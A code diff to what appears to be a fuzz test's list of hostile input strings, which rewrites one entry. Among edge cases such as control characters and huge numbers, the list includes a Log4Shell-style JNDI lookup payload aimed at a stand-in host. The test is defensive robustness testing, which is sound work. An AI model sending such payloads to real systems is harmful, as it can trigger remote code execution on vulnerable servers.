@@ -113,7 +113,7 @@ const hostileText = fc.oneof(
     'acme-corp',
     'x'.repeat(5000),
     '\u202e\u0000\uffff',
-    '${jndi:ldap://evil}',
+    '$' + '{jndi:ldap://evil}',
     'NaN',
     '-1',
     '1e309',
